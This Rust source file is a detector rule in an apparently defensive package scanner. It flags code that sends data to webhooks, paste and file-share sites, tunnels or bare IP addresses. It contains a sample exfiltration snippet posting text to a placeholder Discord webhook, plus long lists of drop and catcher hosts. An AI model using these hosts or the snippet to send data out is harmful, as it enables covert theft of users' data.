//! A host that thieves use as a letter box.

use bulkhead_core::{Confidence, FindingContext, Severity};

use super::code::{Rule, is_library, quoted, say, weigh_called, when};
use crate::archive::Archive;
use crate::behaviour::{Ability, unasked};
use crate::detector::Meta;
use crate::findings::Findings;
use crate::lang::places;

const META: Meta = Meta {
    id: "drop-service",
    title: "a host that thieves use as a letter box",
    severity: Severity::Low,
    confidence: Confidence::Low,
    doc: "\
Webhooks, chat bots, paste and file-share services and out-of-band test servers are where stolen data is sent, because anybody can have one. Honest
integrations name them too, so alone it only adds to the score.

```recipe bad
archive demo-1.0-py3-none-any.whl
--- demo/send.py
import requests
def send(text):
    requests.post('https://discord.com/api/webhooks/1/x', json={'content': text})
```

```recipe good
archive demo-1.0-py3-none-any.whl
--- demo/send.py
import requests
def send(text):
    requests.post('https://api.example/messages', json={'content': text})
```

What to do: see who owns the address.
",
};

/// See its `META`.
pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };

fn check(archive: &Archive, findings: &mut Findings) {
    for behaviour in &archive.code.behaviours {
        if !matches!(behaviour.effect.ability, Ability::Network | Ability::Download | Ability::Dns | Ability::Spawn) {
            continue;
        }
        let detail = behaviour.effect.detail.as_deref().unwrap_or_default();
        let fixed = fixed_box(detail);
        if behaviour.effect.ability == Ability::Network
            && !unasked(behaviour.context)
            && is_library(&behaviour.path)
            && behaviour.effect.excerpt.contains("post(")
            && bare_address(detail)
        {
            say(
                findings,
                &META,
                behaviour,
                weigh_called(behaviour),
                format!("data goes to a bare address {}: {}", when(behaviour.context), quoted(behaviour)),
            );
            continue;
        }
        let Some(service) = fixed.or_else(|| boxes().chain(HOOKS).find(|service| detail.contains(**service)).copied())
        else {
            continue;
        };
        let everyday = HOOKS.contains(&service) && fixed.is_none();
        let weight = match (unasked(behaviour.context), everyday) {
            (true, false) => (Severity::High, Confidence::High),
            (true, true) if service.ends_with("githubusercontent.com") => (Severity::Low, Confidence::Medium),
            (true, true) => (Severity::Medium, Confidence::Medium),
            // Somebody's own box, or a host that only catches what testers send: for a library there is no use in it.
            (false, false) if fixed.is_some() || CATCHERS.iter().any(|catcher| detail.contains(catcher)) => {
                weigh_called(behaviour)
            }
            (false, false) => (Severity::High, Confidence::Medium),
            (false, true) => (Severity::Low, Confidence::Low),
        };
        say(
            findings,
            &META,
            behaviour,
            weight,
            format!("data can go to a letter box (`{service}`) {}", when(behaviour.context)),
        );
    }
    for view in &archive.code.views {
        for (host, line) in &view.literals.hosts {
            if boxes().any(|service| host.ends_with(service) || host.contains(service)) {
                // What builds a package has nothing to show to a catcher.
                let catcher = CATCHERS.iter().any(|catcher| host.contains(catcher));
                let setup =
                    archive.kind.is_sdist() && view.path.ends_with("/setup.py") && view.path.matches('/').count() == 1;
                let (context, severity, confidence) = if catcher && setup {
                    (FindingContext::Install, Severity::High, Confidence::High)
                } else {
                    (FindingContext::Call, META.severity, Confidence::Medium)
                };
                findings
                    .report(&META, format!("`{host}` is a place where anybody can receive data"))
                    .at(&view.path)
                    .line(*line)
                    .context(context)
                    .severity(severity)
                    .confidence(confidence)
                    .add();
            }
        }
    }
}

/// Whether a text names a letter box that is no everyday service.
pub(super) fn is_box(text: &str) -> bool {
    fixed_box(text).is_some() || boxes().any(|service| text.contains(service))
}

/// Addresses whose path tells: the host alone is everyday.
const HOOKS: &[&str] = &[
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "api.telegram.org/bot",
    "hooks.slack.com/services",
    "canary.discord.com/api",
    "ptb.discord.com/api",
    "raw.githubusercontent.com",
    "gist.githubusercontent.com",
];

/// Of the hosts, those that do nothing but show what was sent to them.
const CATCHERS: &[&str] = &[
    "webhook.site",
    "oastify.com",
    "burpcollaborator.net",
    "interact.sh",
    "oast.fun",
    "oast.me",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "pipedream.net",
    "requestbin",
    "hookbin.com",
    "beeceptor.com",
    "dnslog.cn",
    "ceye.io",
    "bxss.in",
    "requestcatcher.com",
    "grabify",
    "iplogger",
    "ngrok-free.",
    ".ngrok.io",
    ".ngrok.app",
    ".ngrok.dev",
    ".loca.lt",
    ".trycloudflare.com",
    ".serveo.net",
];

/// The others: what is left there is found by whoever has the address. With [`CATCHERS`] these are all: [`boxes`].
const BOXES: &[&str] = &[
    "pastebin.com/raw",
    "cdn.discordapp.com/attachments",
    "canarytokens",
    "ngrok",
    "transfer.sh",
    "file.io",
    "anonfiles.com",
    "gofile.io",
    "paste.ee",
    "hastebin",
    "rentry.co",
    "termbin.com",
    "loca.lt",
    "trycloudflare.com",
    "serveo.net",
    "dpaste.",
    "catbox.moe",
    "temp.sh",
    "bashupload.com",
    "store1.gofile.io",
    "0x0.st",
    "eu.org",
    "duckdns.org",
    "repl.co",
    "glitch.me",
    "onion",
    "api.mocki.io",
];

/// Every host where things are left for somebody.
fn boxes() -> impl Iterator<Item = &'static &'static str> {
    BOXES.iter().chain(CATCHERS)
}

/// Whether a URL names a public machine by its number: nobody who wants to be found has no name.
fn bare_address(text: &str) -> bool {
    let Some(rest) = text.strip_prefix("http://") else { return false };
    let host = rest.split(['/', ':', '?']).next().unwrap_or_default();
    host.parse::<std::net::Ipv4Addr>().is_ok_and(|address| {
        !(address.is_private()
            || address.is_loopback()
            || address.is_link_local()
            || address.is_unspecified()
            || address.is_documentation())
    })
}

/// A webhook or bot with its secret in the code: not the service but one person's box in it.
fn fixed_box(text: &str) -> Option<&'static str> {
    let digits = |after: &str| {
        text.split(after).nth(1).is_some_and(|rest| rest.bytes().take_while(u8::is_ascii_digit).count() >= 6)
    };
    for hook in ["discord.com/api/webhooks/", "discordapp.com/api/webhooks/"] {
        if text.contains(hook) && digits(hook) {
            return Some("a Discord webhook");
        }
    }
    (text.contains("api.telegram.org/bot") && digits("api.telegram.org/bot") || places::bot_token(text))
        .then_some("a Telegram bot")
}
